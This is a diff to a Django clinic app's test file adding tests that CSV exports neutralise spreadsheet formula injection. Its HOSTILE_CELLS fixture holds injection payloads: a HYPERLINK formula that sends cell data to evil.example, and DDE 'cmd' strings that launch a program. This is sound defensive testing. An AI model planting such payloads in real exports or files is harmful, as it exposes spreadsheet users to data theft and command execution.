@@ -15,7 +15,10 @@ CSV writers), so a new email or export fails here until it is covered.
 
 from __future__ import annotations
 
+import ast
+import csv
 import datetime as dt
+import io
 import re
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -25,16 +28,21 @@ from pathlib import Path
 import icalendar
 import pytest
 import time_machine
+from django.contrib import admin
+from django.test import RequestFactory
 from django.test.signals import template_rendered
 from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
 
 from bookings import services as booking_services
+from clinic import csv_safe
 from clinic.models import User
 from notifications import channels
 from notifications.models import ReminderDelivery, ReminderSchedule
 from notifications.services import reminders_dispatch
 from patients.models import Patient
-from tests.bookings.factories import AppointmentFactory, at, follow_up, give_hours
+from tests.bookings.factories import AppointmentFactory, RoomFactory, at, follow_up, give_hours
 from tests.exercises.factories import published_plan
 from tests.notifications.conftest import reschedule
 from tests.notifications.integration import smtp  # noqa: F401 (a fixture)
@@ -437,3 +445,106 @@ def test_it_writes_calendar_files_that_hold_exactly_one_event_per_appointment(
             assert line.split(":", 1)[0].split(";", 1)[0] in (
                 EVENT_PROPERTIES | {"PRODID", "VERSION", "METHOD", "BEGIN", "END"}
             )
+
+
+# --- CSV files ------------------------------------------------------------------------------
+
+FORMULA = re.compile(r"^[=+\-@\t\r\n]")
+HOSTILE_CELLS = {
+    "patient": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "surname": "+cmd|' /C calc'!A0",
+    "therapist": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "type": "-2+3+cmd|' /C calc'!A0",
+    "room": "\t=1+1",
+    "second patient": "\r=1+1",
+    "third patient": "\n=1+1",
+}
+
+
+def python_sources() -> list[Path]:
+    skip = {"tests", "bench", "migrations", ".venv", "node_modules", "static", "var"}
+    return [
+        path
+        for path in ROOT.rglob("*.py")
+        if not skip & set(path.relative_to(ROOT).parts) and path.name != "csv_safe.py"
+    ]
+
+
+def test_every_csv_is_written_through_the_formula_safe_writer():
+    """A module that imports csv, or sends text/csv, writes through clinic.csv_safe."""
+    offenders = []
+    for path in python_sources():
+        source = path.read_text()
+        tree = ast.parse(source)
+        imports_csv = any(
+            (isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names))
+            or (isinstance(node, ast.ImportFrom) and node.module == "csv")
+            for node in ast.walk(tree)
+        )
+        uses_safe_writer = "csv_safe" in source
+        if imports_csv or ("text/csv" in source and not uses_safe_writer):
+            offenders.append(path.relative_to(ROOT).as_posix())
+    assert offenders == [], "write CSV with clinic.csv_safe.writer()"
+
+
+@pytest.fixture
+def hostile_rows(therapist):
+    therapist.first_name, therapist.last_name = HOSTILE_CELLS["therapist"], ""
+    therapist.save()
+    kind = follow_up()
+    kind.name = HOSTILE_CELLS["type"]
+    kind.save()
+    room = RoomFactory(name=HOSTILE_CELLS["room"])
+    first = PatientFactory(first_name=HOSTILE_CELLS["patient"], last_name=HOSTILE_CELLS["surname"])
+    others = [
+        PatientFactory(first_name=HOSTILE_CELLS[key], last_name="Ridge")
+        for key in ("second patient", "third patient")
+    ]
+    return [
+        AppointmentFactory(patient=patient, therapist=therapist, room=room, start=start)
+        for patient, start in zip(
+            [first, *others],
+            [at("2026-03-24", "10:00"), at("2026-03-24", "11:00"), at("2026-03-24", "12:00")],
+            strict=True,
+        )
+    ]
+
+
+def test_every_admin_action_that_exports_csv_neutralises_formulas(
+    manager_client, manager, hostile_rows
+):
+    """Run every action of every admin page over every row; check each CSV that comes back."""
+    exports = neutralised = 0
+    for model, model_admin in admin.site._registry.items():
+        first = model._default_manager.first()
+        if first is None:
+            continue
+        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
+        request = RequestFactory().get(url)
+        request.user = manager
+        for action in model_admin.get_actions(request):
+            if action == "delete_selected":
+                continue
+            response = manager_client.post(
+                url, {"action": action, "select_across": "1", "_selected_action": [first.pk]}
+            )
+            assert response.status_code < 500
+            if not response.get("Content-Type", "").startswith("text/csv"):
+                continue
+            exports += 1
+            rows = list(csv.reader(io.StringIO(response.content.decode())))
+            cells = [value for row in rows for value in row]
+            assert [value for value in cells if FORMULA.match(value)] == [], action
+            neutralised += sum(value[:1] == "'" for value in cells)
+    assert exports >= 1  # the appointments export at least
+    assert neutralised >= len(HOSTILE_CELLS)  # the hostile rows were in it
+
+
+@given(st.text())
+def test_a_cell_never_starts_a_formula_and_keeps_its_text(text):
+    buffer = io.StringIO()
+    csv_safe.writer(buffer).writerow([text, "-", 5, None])
+    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
+    assert not FORMULA.match(row[0])
+    assert row[0] in (text, "'" + text)
+    assert row[1:] == ["'-", "5", ""]
